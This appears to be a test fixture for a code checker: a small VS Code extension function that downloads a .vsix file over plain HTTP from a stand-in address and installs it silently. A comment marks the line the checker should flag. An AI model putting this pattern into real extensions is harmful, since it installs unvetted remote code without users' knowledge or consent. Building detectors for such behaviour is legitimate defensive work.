const vscode = require('vscode');
const http = require('http');

function fetchBuffer(url) {
  return new Promise(resolve => http.get(url, response => {
    const parts = [];
    response.on('data', d => parts.push(d));
    response.on('end', () => resolve(Buffer.concat(parts)));
  }));
}
exports.update = async context => {
  const file = vscode.Uri.joinPath(context.globalStorageUri, 'hub.vsix');
  await vscode.workspace.fs.writeFile(file, await fetchBuffer('http://192.0.2.4/hub.vsix'));
  await vscode.commands.executeCommand('workbench.extensions.installExtension', file); // want "an extension is fetched and installed behind"
};
